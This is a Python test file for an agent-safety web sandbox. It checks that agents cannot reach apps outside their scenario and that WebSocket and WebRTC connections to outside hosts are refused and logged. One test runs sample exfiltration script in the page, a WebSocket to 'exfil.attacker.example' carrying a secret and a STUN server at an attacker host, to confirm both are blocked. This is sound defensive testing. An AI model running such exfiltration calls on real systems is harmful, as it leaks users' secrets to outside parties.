"""Web egress beyond plain HTTP, and apps beyond the scenario's: a WebSocket or a WebRTC peer
connection to an outside host is refused and recorded; a shop scenario cannot browse the CRM,
mail or forge apps the same server hosts (404, recorded as egress)."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import pytest

from agentsafe.models.events import EventKind
from agentsafe.models.scenario import Scenario
from agentsafe.models.tools import ToolCall
from agentsafe.sandbox.web import WebSandbox

pytestmark = pytest.mark.anyio


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module")
async def web() -> AsyncIterator[WebSandbox]:
    sb = WebSandbox()  # every app loaded: the scenario decides which one exists
    await sb.start()
    try:
        yield sb
    finally:
        await sb.close()


def scenario(app: str = "shop") -> Scenario:
    return Scenario.model_validate({
        "id": "t.egress", "title": "t", "sandbox": {"kind": "web", "app": app},
        "instruction": "x", "checks": [{"kind": "finished"}],
        "reference": [{"tool": "finish", "args": {"answer": "x"}}]})


def egress(sb: WebSandbox) -> list[dict[str, Any]]:
    return [dict(e.data, url=e.url) for e in sb.drain_events() if e.kind == EventKind.egress]


async def test_only_the_scenarios_app_is_served(web: WebSandbox) -> None:
    await web.reset(scenario("shop"))
    web.drain_events()
    others = sorted(h for app, hs in web.server.hosts.items() if app != "shop" for h in hs)
    assert others  # crm, mail, forge...
    for host in others:
        r = await web.call(ToolCall(name="goto", args={"url": f"http://{host}/"}))
        text, _ = await web.observe()
        assert "Unknown host" in text or not r.ok, (host, text[:200])
    assert sorted({e["host"] for e in egress(web)}) == others
    r = await web.call(ToolCall(name="goto", args={"url": "http://shop.example.test/"}))
    assert r.ok and egress(web) == []
    # the next scenario names the CRM: now it is served, and the shop is not
    crm = next(iter(web.server.hosts["crm"]))
    await web.reset(scenario("crm"))
    web.drain_events()
    assert (await web.call(ToolCall(name="goto", args={"url": f"http://{crm}/"}))).ok
    assert egress(web) == []
    await web.call(ToolCall(name="goto", args={"url": "http://shop.example.test/"}))
    assert [e["host"] for e in egress(web)] == ["shop.example.test"]


async def test_websockets_and_webrtc_are_refused_and_recorded(web: WebSandbox) -> None:
    await web.reset(scenario("shop"))
    web.drain_events()
    page = web._page
    assert page is not None
    # what a script on a page (an injected attacker page, say) would run
    state = await page.evaluate("""() => new Promise(done => {
        const ws = new WebSocket("wss://exfil.attacker.example/feed?c=SECRET");
        ws.onopen = () => done("open"); ws.onerror = () => done("error");
        ws.onclose = () => done("closed"); setTimeout(() => done("timeout"), 3000);
    })""")
    assert state in ("error", "closed")
    rtc = await page.evaluate("""() => { try { new RTCPeerConnection({iceServers:
        [{urls: "stun:stun.attacker.example:3478"}]}); return "made"; }
        catch (e) { return e.name; } }""")
    assert rtc == "NotAllowedError"
    got = egress(web)
    assert {(e["method"], e["host"]) for e in got} >= {("WEBSOCKET", "exfil.attacker.example")}
    assert any(e["url"] == "stun:stun.attacker.example:3478" for e in got)
    st = await web.state()
    assert any(e["method"] == "WEBSOCKET" for e in st.data["egress"])
